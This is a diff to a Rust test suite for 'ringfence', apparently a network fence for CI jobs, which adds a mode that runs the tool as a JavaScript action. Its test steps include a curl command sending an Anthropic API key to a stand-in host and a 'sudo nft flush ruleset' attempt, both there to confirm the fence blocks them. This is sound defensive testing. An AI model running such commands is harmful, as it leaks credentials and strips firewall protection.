@@ -52,9 +52,18 @@ impl Job {
     }
 }
 
-/// Plays one job: `start` is the main step's `ringfence job start` arguments, `steps` the later
-/// steps (`name:command`).
-fn play(net: &FakeInternet, mode: &str, steps: &[&str]) -> Job {
+/// How the main and post steps start and stop ringfence.
+#[derive(Clone, Copy, PartialEq)]
+enum Via {
+    /// `sudo ringfence job start|stop`, as a workflow's `run:` steps would.
+    Cli,
+    /// The repository's action (action.yml): its main.js and post.js under node, as the runner
+    /// runs a JavaScript action, with `ringfence-path` pointing at this build.
+    Action,
+}
+
+/// Plays one job: `steps` are the later steps (`name:command`).
+fn play(net: &FakeInternet, mode: &str, via: Via, steps: &[&str]) -> Job {
     let work = support::scratch();
     let cgroup = TestCgroup::new(&format!("job-{mode}"));
     let policy = work.path().join("ringfence.yml");
@@ -131,7 +140,7 @@ fn block_mode_fences_every_later_step_by_name_and_cannot_be_switched_off() {
         "exfil:curl -sS --max-time 10 -H \"x-api-key: $STEP_main_ANTHROPIC_API_KEY\" https://a.wild.test/ ; true",
         "failing:exit 7",
     ];
-    let job = play(&net, "block", &steps);
+    let job = play(&net, "block", Via::Cli, &steps);
     let out = |s| job.output(s);
     assert_eq!(job.step("main"), Some(0), "job start failed:\n{}", job.stdout);
     assert!(
@@ -215,7 +224,7 @@ fn audit_mode_records_every_step_and_lets_it_through() {
     let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
     let net = FakeInternet::new();
     let steps = [&format!("denied:{CURL} --cacert \"$SSL_CERT_FILE\" https://denied.test/") as &str];
-    let job = play(&net, "audit", &steps);
+    let job = play(&net, "audit", Via::Cli, &steps);
     assert_eq!(job.step("main"), Some(0), "job start failed:\n{}", job.stdout);
     assert_eq!(job.output("denied").trim(), "200", "audit mode lets it through: {}", job.stdout);
     assert_eq!(job.step("post"), Some(0), "{}", job.output("post"));
@@ -228,4 +237,31 @@ fn audit_mode_records_every_step_and_lets_it_through() {
     });
     assert!(flagged, "the connection is flagged and attributed to curl (pid {curl})");
     assert!(job.out_dir.join("suggested-policy.yml").is_file(), "audit mode proposes a policy");
+}
+
+#[test]
+fn the_action_starts_the_fence_and_its_post_step_reports_after_a_failed_step() {
+    if !testnet::privileged() || !testnet::have(&["sudo", "setpriv", "unshare", "node"]) {
+        return;
+    }
+    let _serial = SERIAL.lock().unwrap_or_else(|e| e.into_inner());
+    let net = FakeInternet::new();
+    let steps = [
+        &format!("allowed:{CURL} https://allowed.test/") as &str,
+        &format!("denied:{CURL} https://denied.test/"),
+        "nftflush:sudo -n nft flush ruleset",
+        "failing:exit 3",
+    ];
+    let job = play(&net, "block", Via::Action, &steps);
+    assert_eq!(job.step("main"), Some(0), "the action's main failed:\n{}", job.stdout);
+    assert_eq!(job.output("allowed").trim(), "200", "{}", job.stdout);
+    assert_ne!(job.output("denied").trim(), "200");
+    assert_ne!(job.step("nftflush"), Some(0), "disable-sudo took sudo away");
+    assert_eq!(job.step("post"), Some(0), "post stops the fence after a failed step: {}", job.output("post"));
+    assert!(job.out_dir.join("report.html").is_file(), "post copied the reports to the `out` input");
+    let curl = job.exec_of("curl", "https://denied.test/").expect("curl's exec");
+    let refused = job
+        .events()
+        .any(|e| matches!(e, Event::DnsQuery(q) if q.pid == Some(curl) && q.verdict == Verdict::Blocked));
+    assert!(refused, "the denied lookup is refused and attributed to curl (pid {curl})");
 }
